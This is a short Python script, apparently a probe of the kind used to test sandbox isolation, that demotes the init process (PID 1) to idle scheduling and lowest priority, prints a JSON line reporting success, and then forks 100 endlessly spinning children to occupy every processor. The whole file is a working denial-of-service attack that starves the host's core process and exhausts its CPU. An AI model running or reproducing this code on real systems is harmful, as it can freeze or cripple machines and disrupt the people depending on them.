# Makes init as slow as it can, then keeps every processor busy.
import json
import os

os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
os.setpriority(os.PRIO_PROCESS, 1, 19)
print(json.dumps({"probe": "make init slow", "saw": "ok"}), flush=True)
for _ in range(100):
    if os.fork() == 0:
        while True:
            pass
while True:
    pass
